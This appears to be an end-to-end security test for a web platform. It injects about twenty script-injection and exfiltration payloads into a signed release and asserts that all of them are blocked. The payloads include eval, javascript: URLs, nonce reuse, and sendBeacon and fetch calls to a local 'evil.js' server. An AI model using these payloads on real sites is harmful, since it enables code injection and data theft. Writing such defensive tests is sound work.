import { createHash } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, opened, test as journey } from './lib/journey.ts';
import { operatorOf } from './lib/releases.ts';

/*
 * What the code of a signed release cannot do: run anything that is in no release, or send data elsewhere by a request
 * (ADR 0089, docs/guides/teams-and-remotes.md). The attacks are functions of a release of Help; each leaves `ran` alone.
 */

const PARTNER = 'borealis';
const CUSTOMER = 'customer@borealis.example';
const HELP = 'How to get things done with';

/** Written into the release: each takes the address of a foreign server and the hash of its script. */
const ATTACKS = `
globalThis.attacks = {
  foreign(at, integrity) { const s = Object.assign(document.createElement('script'), { src: at, integrity, crossOrigin: 'anonymous' }); document.head.append(s); },
  foreignUnchecked(at) { document.head.append(Object.assign(document.createElement('script'), { src: at })); },
  nonce(at, integrity) { const s = Object.assign(document.createElement('script'), { nonce: document.querySelector('[nonce]').nonce, integrity, crossOrigin: 'anonymous' }); s.setAttribute('src', at); document.head.append(s); },
  inline() { const s = document.createElement('script'); s.nonce = document.querySelector('[nonce]').nonce; s.textContent = 'ran = 1'; document.head.append(s); },
  inlineNode() { const s = document.createElement('script'); s.nonce = document.querySelector('[nonce]').nonce; s.append(document.createTextNode('ran = 1')); document.head.append(s); },
  handler() { document.body.insertAdjacentHTML('beforeend', '<img src="/nothing.png" onerror="ran = 1">'); },
  address() { const a = document.createElement('a'); a.href = 'javascript:ran=1'; document.body.append(a); a.click(); },
  evaluate() { (0, eval)('ran = 1'); },
  make() { new Function('ran = 1')(); },
  timer() { setTimeout('ran = 1', 0); },
  async module(at) { await import(/* webpackIgnore: true */ at); },
  async data() { await import(/* webpackIgnore: true */ 'data:text/javascript,ran=1'); },
  worker() { new Worker(URL.createObjectURL(new Blob(['']))); globalThis.ran = 1; },
  policy() { if (globalThis.trustedTypes) { trustedTypes.createPolicy('mine', {}); globalThis.ran = 1; } },
  frame(at, integrity) { const f = document.createElement('iframe'); document.body.append(f); const d = f.contentDocument; const s = d.createElement('script'); Object.assign(s, { integrity, crossOrigin: 'anonymous' }); s.src = at; d.head.append(s); },
  frameText() { const f = document.createElement('iframe'); f.srcdoc = '<script>parent.ran = 1</scr' + 'ipt>'; document.body.append(f); },
  document() { document.head.append(Object.assign(document.createElement('script'), { src: '/openapi.json' })); },
  async send(at) { await fetch(at); globalThis.ran = 1; },
  beacon(at) { navigator.sendBeacon(at, 'secret'); },
  picture(at) { new Image().src = at + '?secret'; },
  check() { const mine = () => {}; try { globalThis.panelIntegrity = mine; } catch {} if (globalThis.panelIntegrity === mine) globalThis.ran = 1; },
};`;

type Attacks = Record<string, (at: string, integrity: string) => unknown>;

const SCRIPT = 'globalThis.ran = 1;';
const INTEGRITY = `sha384-${createHash('sha384').update(SCRIPT).digest('base64')}`;

/** A server of somebody else, which allows every page to load its script. */
async function foreignServer(): Promise<{ server: Server; at: string; requests: string[] }> {
  const requests: string[] = [];
  const server = createServer((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' }).end(SCRIPT);
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  return { server, at: `http://127.0.0.1:${(server.address() as AddressInfo).port}/evil.js`, requests };
}

const test = journey.extend({
  // Each refused attack is an error of the console.
  // eslint-disable-next-line no-empty-pattern -- Playwright reads the names of fixtures from this pattern
  pageErrors: async ({}, use) => use([]),
  // eslint-disable-next-line no-empty-pattern -- the same
  violations: async ({}, use) => use([]),
});

test('code of a signed release runs nothing that is in no release, and sends nothing to another server', async ({
  page,
  panel,
  origin,
  enter,
}) => {
  const operator = operatorOf(panel);
  const version = `attack-${process.pid.toString(36)}${Date.now().toString(36)}`;
  await operator.release(
    'mf-help',
    { version, text: (text) => (text.includes(HELP) ? `${text}\n${ATTACKS}` : text) },
    new URL(origin(PARTNER)).hostname,
  );
  const { server, at, requests } = await foreignServer();
  try {
    await enter(CUSTOMER);
    await page.goto(`${origin(PARTNER)}/help`);
    await opened(page, /help/i);
    const names = await page.evaluate(() => Object.keys((globalThis as unknown as { attacks: object }).attacks));
    expect(names.length).toBeGreaterThanOrEqual(20);
    for (const name of names) {
      const ran = await page.evaluate(
        async ([attack, address, hash]) => {
          const world = globalThis as unknown as { attacks: Attacks; ran?: number };
          delete world.ran;
          // In a task of the page's own: what the debugger evaluates may use eval. What throws has not run.
          await new Promise<void>((done) =>
            setTimeout(async () => {
              try {
                await world.attacks[attack]?.(address, hash);
              } catch {
                // Refused.
              }
              done();
            }),
          );
          // Whatever an element was to run has run after two later tasks that load something.
          for (let turn = 0; turn < 2; turn += 1) await fetch('/favicon.ico').catch(() => undefined);
          return world.ran;
        },
        [name, at, INTEGRITY] as const,
      );
      expect.soft(ran, name).toBeUndefined();
    }
    expect(requests).toEqual([]);
    await page.getByRole('button', { name: /Profile menu/ }).click();
    await page.getByRole('menuitem', { name: 'Account Settings' }).click();
    await expect(page).toHaveURL(/\/my-account\//);
    await opened(page, /./);
  } finally {
    server.close();
    await operator.change('mf-help', 'rollback', new URL(origin(PARTNER)).hostname);
  }
});
